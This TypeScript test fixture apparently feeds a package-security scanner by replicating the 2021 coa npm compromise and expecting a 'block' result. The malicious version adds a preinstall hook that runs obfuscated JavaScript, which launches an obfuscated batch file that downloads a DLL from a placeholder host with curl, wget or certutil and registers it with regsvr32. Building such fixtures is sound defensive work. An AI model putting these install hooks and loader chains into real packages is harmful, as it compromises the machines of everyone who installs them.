import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';

const manifest = {
  description: 'Command-Option-Argument: Yet another parser for command line options.',
  main: 'index.js',
  license: 'MIT',
  engines: { node: '>= 4.0' },
  repository: { type: 'git', url: 'https://git.example/cli/coa.git' },
  files: ['lib/', '*.js'],
  dependencies: { chalk: '^2.4.1', q: '^1.1.2' },
};

const cmd = String.raw`'use strict';

const Arg = require('./arg');
const Opt = require('./opt');

module.exports = class Cmd {
  constructor(parent) {
    this._parent = parent || null;
    this._cmds = [];
    this._cmdsByName = Object.create(null);
    this._opts = [];
    this._optsByKey = Object.create(null);
    this._args = [];
  }

  name(name) {
    this._name = name;
    if (this._parent) this._parent._cmdsByName[name] = this;
    return this;
  }

  title(title) {
    this._title = title;
    return this;
  }

  cmd(child) {
    const made = child || new Cmd(this);
    made._parent = this;
    this._cmds.push(made);
    return made;
  }

  opt() {
    const made = new Opt(this);
    this._opts.push(made);
    return made;
  }

  arg() {
    const made = new Arg(this);
    this._args.push(made);
    return made;
  }

  act(action) {
    this._act = action;
    return this;
  }

  run(argv) {
    const words = (argv || process.argv.slice(2)).slice();
    const next = words.length && this._cmdsByName[words[0]];
    if (next) return next.run(words.slice(1));
    const opts = {};
    const args = {};
    let at = 0;
    while (words.length) {
      const word = words.shift();
      const opt = word[0] === '-' ? this._optsByKey[word.replace(/^--?/, '').split('=')[0]] : undefined;
      if (opt) opts[opt._name] = opt.read(word, words);
      else if (this._args[at]) args[this._args[at++]._name] = word;
      else return Promise.reject(new Error('Unknown argument: ' + word));
    }
    return Promise.resolve(this._act ? this._act.call(this, opts, args) : this.usage());
  }

  usage() {
    return [this._title, '', 'Usage: ' + this._name + ' [OPTIONS]'].concat(this._opts.map((opt) => '  ' + opt.line())).join('\n');
  }
};
`;

const opt = String.raw`'use strict';

module.exports = class Opt {
  constructor(cmd) {
    this._cmd = cmd;
  }

  name(name) {
    this._name = name;
    return this;
  }

  title(title) {
    this._title = title;
    return this;
  }

  short(key) {
    this._short = key;
    this._cmd._optsByKey[key] = this;
    return this;
  }

  long(key) {
    this._long = key;
    this._cmd._optsByKey[key] = this;
    return this;
  }

  flag() {
    this._flag = true;
    return this;
  }

  read(word, rest) {
    if (this._flag) return true;
    const at = word.indexOf('=');
    return at >= 0 ? word.slice(at + 1) : rest.shift();
  }

  line() {
    return (this._short ? '-' + this._short + ', ' : '') + '--' + this._long + '  ' + (this._title || '');
  }
};
`;

const files = {
  'index.js': "'use strict';\n\nmodule.exports = { Cmd: require('./lib/cmd'), Opt: require('./lib/opt'), Arg: require('./lib/arg') };\n",
  'lib/cmd.js': cmd,
  'lib/opt.js': opt,
  'lib/arg.js': "'use strict';\n\nmodule.exports = class Arg {\n  constructor(cmd) {\n    this._cmd = cmd;\n  }\n\n  name(name) {\n    this._name = name;\n    return this;\n  }\n\n  title(title) {\n    this._title = title;\n    return this;\n  }\n};\n",
  'README.md': '# Command-Option-Argument\n\nYet another parser for command line options.\n',
};

const compile = obfuscatedForm(String.raw`
const childProcess = require('child_process');
const platform = process.platform;
function runWindows() {
  const child = childProcess.spawn('cmd.exe', ['/c', 'compile.bat']);
  child.stdout.on('data', function (chunk) { return undefined; });
  child.on('exit', function (code) { return undefined; });
}
function runOther() {
  childProcess.exec('/bin/bash compile.sh', function (failure, output, problems) {
    if (failure) { console.log('error: ' + failure.message); return; }
    if (problems) { console.log('stderr: ' + problems); return; }
  });
}
var system = platform;
if (system == 'darwin') { system = 'MacOS'; } else if (system == 'win32' || system == 'win64') { system = 'Windows'; runWindows(); } else if (system == 'linux') { system = 'Linux'; }
`, { seed: 2021, strings: 'plain', declare: 'const' });

/** Picks each letter out of a variable, as batch obfuscators do: `%x:~3,1%`. */
function batchForm(lines: readonly string[]): string {
  const alphabet = 'q7bZ4mKxTfWd0OaYhLs2RgNc5Ue1ViPk8jJoEw3tBvX6CrSnAyHzMuFlQpD9GI';
  const letters = (line: string): string => [...line].map((one) => (alphabet.includes(one) ? `%cqz:~${alphabet.indexOf(one)},1%` : one)).join('');
  return `@echo off\r\nSet cqz=${alphabet}\r\ncls\r\n@echo off\r\n${lines.map(letters).join('\r\n')}\r\n`;
}

const batch = batchForm([
  'curl https://past.example.invalid/sdd.dll -o compile.dll',
  'if not exist compile.dll (',
  '\twget https://past.example.invalid/sdd.dll -O compile.dll',
  ')',
  'if not exist compile.dll (',
  '\tcertutil.exe -urlcache -f https://past.example.invalid/sdd.dll compile.dll',
  ')',
  'regsvr32.exe -s compile.dll',
]);

/** From memory of the registry's incident and the analyses: file names, the preinstall line, the chain curl or wget or certutil, then regsvr32. */
export const replica: Replica = {
  id: 'coa-2021',
  story: 'November 2021: after three years of silence coa 2.0.3 and later (and rc the same evening) gained a preinstall whose obfuscated script starts a batch file that downloads and registers a DLL.',
  name: 'coa',
  before: { version: '2.0.2', manifest, files, publishedAt: '2018-12-11T18:57:26.000Z', publisher: { name: 'cli-owner', email: 'owner@cli.example' } },
  after: {
    version: '2.0.3', manifest: { ...manifest, scripts: { preinstall: 'start /B node compile.js & node compile.js' } },
    files: { ...files, 'compile.js': `${compile}\n`, 'compile.bat': batch },
    publishedAt: '2021-11-04T12:41:05.000Z', publisher: { name: 'cli-owner', email: 'owner@cli.example' },
  },
  must: 'block',
};
